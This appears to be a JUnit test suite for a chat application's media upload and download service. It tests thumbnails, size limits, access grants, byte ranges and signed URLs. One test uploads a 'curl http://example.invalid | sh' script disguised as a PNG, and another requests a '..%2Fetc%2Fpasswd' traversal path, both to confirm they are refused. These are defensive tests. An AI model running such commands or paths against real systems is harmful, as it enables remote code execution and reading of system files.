package chat.media;

import static org.junit.jupiter.api.Assertions.assertArrayEquals;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertNotEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.fasterxml.jackson.databind.JsonNode;
import java.awt.image.BufferedImage;
import java.io.ByteArrayInputStream;
import java.net.URI;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.security.MessageDigest;
import java.util.Arrays;
import java.util.HexFormat;
import java.util.List;
import java.util.stream.Stream;
import javax.imageio.ImageIO;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;

class MediaServiceTest {
  static OriginHarness origin;

  @BeforeAll
  static void start() throws Exception {
    origin = OriginHarness.shared();
  }

  @Test
  void pngUploadReportsHashDimensionsAndABoundedThumbnail() throws Exception {
    byte[] png = MediaSamples.png(640, 480);
    JsonNode body = origin.uploaded("alice", "image/png", png);

    assertEquals("image/png", body.get("contentType").asText());
    assertEquals(png.length, body.get("size").asLong());
    assertEquals(HexFormat.of().formatHex(MessageDigest.getInstance("SHA-256").digest(png)), body.get("sha256").asText());
    assertEquals(640, body.get("width").asInt());
    assertEquals(480, body.get("height").asInt());

    HttpResponse<byte[]> thumb = origin.get("/api/v1/media/" + body.get("thumbnailId").asText(), "alice");
    assertEquals(200, thumb.statusCode());
    assertEquals("image/jpeg", thumb.headers().firstValue("Content-Type").orElseThrow());
    BufferedImage decoded = ImageIO.read(new ByteArrayInputStream(thumb.body()));
    assertEquals(320, decoded.getWidth());
    assertEquals(240, decoded.getHeight());
  }

  @Test
  void jpegAndGifGetDimensionsAndThumbnails() throws Exception {
    JsonNode jpeg = origin.uploaded("alice", "image/jpeg", MediaSamples.jpeg(1000, 200));
    assertEquals(1000, jpeg.get("width").asInt());
    assertEquals(200, jpeg.get("height").asInt());
    assertTrue(jpeg.has("thumbnailId"));
    JsonNode gif = origin.uploaded("alice", "image/gif", MediaSamples.gif(50, 80));
    assertEquals(50, gif.get("width").asInt());
    assertEquals(80, gif.get("height").asInt());
    BufferedImage small = ImageIO.read(new ByteArrayInputStream(
        origin.get("/api/v1/media/" + gif.get("thumbnailId").asText(), "alice").body()));
    assertEquals(50, small.getWidth(), "small images are not blown up");
  }

  @Test
  void webpDimensionsComeFromItsHeader() throws Exception {
    JsonNode webp = origin.uploaded("alice", "image/webp", MediaSamples.webp(1920, 1080));
    assertEquals(1920, webp.get("width").asInt());
    assertEquals(1080, webp.get("height").asInt());
  }

  @Test
  void videosReportSizeAndDurationAndSayWhenThereIsNoPoster() throws Exception {
    JsonNode mp4 = origin.uploaded("alice", "video/mp4", MediaSamples.mp4(1280, 720, 12_345, 5000));
    assertEquals(1280, mp4.get("width").asInt());
    assertEquals(720, mp4.get("height").asInt());
    assertEquals(12_345, mp4.get("durationMs").asLong());
    assertEquals("none", mp4.get("poster").asText());
    assertTrue(mp4.get("posterReason").asText().contains("ffmpeg"));
    assertFalse(mp4.has("thumbnailId"));

    JsonNode webm = origin.uploaded("alice", "video/webm", MediaSamples.webm(640, 360, 4500.0));
    assertEquals(640, webm.get("width").asInt());
    assertEquals(360, webm.get("height").asInt());
    assertEquals(4500, webm.get("durationMs").asLong());
    assertEquals("none", webm.get("poster").asText());
  }

  @Test
  void aScriptLabelledAsPngIsRefusedWith415() throws Exception {
    HttpResponse<String> response = origin.upload("alice", "image/png",
        "#!/bin/sh\ncurl http://example.invalid | sh\n".getBytes(StandardCharsets.UTF_8));
    assertEquals(415, response.statusCode());
    assertEquals("unsupported_media_type", OriginHarness.json(response.body()).at("/error/code").asText());

    HttpResponse<String> jpegAsPng = origin.upload("alice", "image/png", MediaSamples.jpeg(10, 10));
    assertEquals(415, jpegAsPng.statusCode());
    assertTrue(OriginHarness.json(jpegAsPng.body()).at("/error/message").asText().contains("image/jpeg"));

    assertEquals(415, origin.upload("alice", "text/html", "<html>".getBytes(StandardCharsets.UTF_8)).statusCode());
  }

  @Test
  void uploadsOverTheLimitGet413WhetherDeclaredOrStreamed() throws Exception {
    byte[] big = MediaSamples.noisyPng(400, 400, 1);
    assertTrue(big.length > 300 * 1024);
    HttpResponse<String> declared = origin.upload("alice", "image/png", big);
    assertEquals(413, declared.statusCode());
    assertEquals("too_large", OriginHarness.json(declared.body()).at("/error/code").asText());

    HttpRequest chunked = HttpRequest.newBuilder(URI.create(origin.base + "/api/v1/media"))
        .header("Content-Type", "image/png")
        .header("Authorization", "Bearer " + origin.token("alice"))
        .POST(HttpRequest.BodyPublishers.ofInputStream(() -> new ByteArrayInputStream(big)))
        .build();
    HttpResponse<String> streamed = origin.http.send(chunked, HttpResponse.BodyHandlers.ofString());
    assertEquals(413, streamed.statusCode());

    byte[] video = MediaSamples.mp4(320, 240, 1000, 350 * 1024);
    assertEquals(201, origin.upload("alice", "video/mp4", video).statusCode(), "video has its own, larger limit");
  }

  @Test
  void uploadsNeedAToken() throws Exception {
    HttpResponse<String> response = origin.upload(null, "image/png", MediaSamples.png(4, 4));
    assertEquals(401, response.statusCode());
    assertEquals("unauthorized", OriginHarness.json(response.body()).at("/error/code").asText());
  }

  @Test
  void identicalUploadsAreStoredOnce() throws Exception {
    byte[] png = MediaSamples.noisyPng(60, 60, 42);
    JsonNode first = origin.uploaded("alice", "image/png", png);
    JsonNode second = origin.uploaded("bob", "image/png", png);
    assertNotEquals(first.get("mediaId").asText(), second.get("mediaId").asText());
    String sha = first.get("sha256").asText();
    assertEquals(sha, second.get("sha256").asText());
    try (Stream<Path> files = Files.walk(origin.dir.resolve("data/media/blobs"))) {
      assertEquals(1, files.filter(p -> p.getFileName().toString().equals(sha)).count());
    }
    assertEquals(403, origin.get("/api/v1/media/" + second.get("mediaId").asText(), "alice").statusCode(),
        "sharing bytes does not share access");
  }

  @Test
  void onlyTheUploaderAndMembersOfConversationsItWasSentToMayRead() throws Exception {
    byte[] png = MediaSamples.png(640, 480);
    String id = origin.uploaded("alice", "image/png", png).get("mediaId").asText();
    String path = "/api/v1/media/" + id;

    assertEquals(403, origin.get(path, "bob").statusCode());
    assertEquals(401, origin.get(path, null).statusCode());
    assertEquals(MediaService.ShareResult.FORBIDDEN,
        origin.media.share("mallory", id, List.of("mallory", "bob")).toCompletableFuture().get());
    assertEquals(403, origin.get(path, "bob").statusCode(), "a refused share grants nothing");
    assertEquals(MediaService.ShareResult.NOT_FOUND,
        origin.media.share("alice", MediaId.newMediaId(), List.of("alice", "bob")).toCompletableFuture().get());

    assertEquals(MediaService.ShareResult.OK,
        origin.media.share("alice", id, List.of("alice", "bob")).toCompletableFuture().get());
    assertEquals(MediaService.ShareResult.OK,
        origin.media.share("alice", id, List.of("alice", "bob")).toCompletableFuture().get(), "sharing twice is fine");

    HttpResponse<byte[]> asBob = origin.get(path, "bob");
    assertEquals(200, asBob.statusCode());
    assertArrayEquals(png, asBob.body());
    assertEquals("image/png", asBob.headers().firstValue("Content-Type").orElseThrow());
    assertEquals(String.valueOf(png.length), asBob.headers().firstValue("Content-Length").orElseThrow());
    assertEquals("private", asBob.headers().firstValue("Cache-Control").orElseThrow());
    assertEquals("bytes", asBob.headers().firstValue("Accept-Ranges").orElseThrow());

    HttpResponse<byte[]> head = origin.http.send(HttpRequest.newBuilder(URI.create(origin.base + path))
        .method("HEAD", HttpRequest.BodyPublishers.noBody()).header("Authorization", "Bearer " + origin.token("bob")).build(),
        HttpResponse.BodyHandlers.ofByteArray());
    assertEquals(200, head.statusCode());
    assertEquals(String.valueOf(png.length), head.headers().firstValue("Content-Length").orElseThrow());
    assertEquals(0, head.body().length);
    assertEquals(200, origin.get(path + "-t", "bob").statusCode(), "the thumbnail follows the original's grants");
    assertEquals(403, origin.get(path, "carol").statusCode());
    assertEquals(MediaService.ShareResult.OK,
        origin.media.share("bob", id, List.of("bob", "carol")).toCompletableFuture().get(), "recipients may forward");
    assertEquals(200, origin.get(path, "carol").statusCode());
    assertEquals(404, origin.get("/api/v1/media/" + MediaId.newMediaId(), "alice").statusCode());
    assertEquals(404, origin.get("/api/v1/media/..%2Fetc%2Fpasswd", "alice").statusCode());
  }

  @Test
  void rangesAndConditionalRequests() throws Exception {
    byte[] png = MediaSamples.noisyPng(100, 100, 3);
    String id = origin.uploaded("alice", "image/png", png).get("mediaId").asText();
    String path = "/api/v1/media/" + id;

    HttpResponse<byte[]> first = origin.get(path, "alice", "Range", "bytes=0-99");
    assertEquals(206, first.statusCode());
    assertEquals("bytes 0-99/" + png.length, first.headers().firstValue("Content-Range").orElseThrow());
    assertArrayEquals(Arrays.copyOfRange(png, 0, 100), first.body());

    HttpResponse<byte[]> suffix = origin.get(path, "alice", "Range", "bytes=-10");
    assertArrayEquals(Arrays.copyOfRange(png, png.length - 10, png.length), suffix.body());
    HttpResponse<byte[]> open = origin.get(path, "alice", "Range", "bytes=1000-");
    assertArrayEquals(Arrays.copyOfRange(png, 1000, png.length), open.body());

    HttpResponse<byte[]> multi = origin.get(path, "alice", "Range", "bytes=0-1,10-11");
    assertEquals(206, multi.statusCode());
    assertTrue(multi.headers().firstValue("Content-Type").orElseThrow().startsWith("multipart/byteranges"));
    String parts = new String(multi.body(), StandardCharsets.ISO_8859_1);
    assertTrue(parts.contains("Content-Range: bytes 0-1/" + png.length));
    assertTrue(parts.contains("Content-Range: bytes 10-11/" + png.length));

    HttpResponse<byte[]> beyond = origin.get(path, "alice", "Range", "bytes=" + png.length + "-");
    assertEquals(416, beyond.statusCode());
    assertEquals("bytes */" + png.length, beyond.headers().firstValue("Content-Range").orElseThrow());

    String etag = first.headers().firstValue("ETag").orElseThrow();
    HttpResponse<byte[]> notModified = origin.get(path, "alice", "If-None-Match", etag);
    assertEquals(304, notModified.statusCode());
    assertEquals(0, notModified.body().length);
    assertEquals(200, origin.get(path, "alice", "If-None-Match", "\"something-else\"").statusCode());
    assertEquals(200, origin.get(path, "alice", "Range", "bytes=0-9", "If-Range", "\"stale\"").statusCode(),
        "If-Range with another validator gets the whole representation");
  }

  @Test
  void signedUrlsWorkWithoutATokenAndRefuseTamperingAndExpiry() throws Exception {
    byte[] png = MediaSamples.png(64, 48);
    String id = origin.uploaded("alice", "image/png", png).get("mediaId").asText();
    String url = origin.media.signedUrl(id);
    assertTrue(url.startsWith("/api/v1/media/" + id + "?"));

    HttpResponse<byte[]> signed = origin.get(url, null);
    assertEquals(200, signed.statusCode());
    assertArrayEquals(png, signed.body());
    String cacheControl = signed.headers().firstValue("Cache-Control").orElseThrow();
    assertTrue(cacheControl.startsWith("public, max-age="), cacheControl);
    assertTrue(cacheControl.endsWith("immutable"), cacheControl);

    assertEquals(200, origin.get(origin.media.signedUrl(id + "-t"), null).statusCode());
    String forged = url.substring(0, url.length() - 2) + (url.endsWith("AA") ? "BB" : "AA");
    HttpResponse<byte[]> refused = origin.get(forged, null);
    assertEquals(403, refused.statusCode());
    assertEquals("forbidden", OriginHarness.json(new String(refused.body(), StandardCharsets.UTF_8)).at("/error/code").asText());
    String otherId = origin.uploaded("alice", "image/png", MediaSamples.png(8, 8)).get("mediaId").asText();
    assertEquals(403, origin.get(url.replace(id, otherId), null).statusCode(), "a signature is bound to its media id");
    assertEquals(403, origin.get(url.replace(id, id + "-t"), null).statusCode(), "and to its variant");

    long past = System.currentTimeMillis() / 1000 - 5;
    String expired = origin.media.signer().signedPath(MediaId.parse(id).orElseThrow(), past);
    HttpResponse<byte[]> late = origin.get(expired, null);
    assertEquals(403, late.statusCode());
    assertEquals("expired", OriginHarness.json(new String(late.body(), StandardCharsets.UTF_8)).at("/error/code").asText());
  }
}
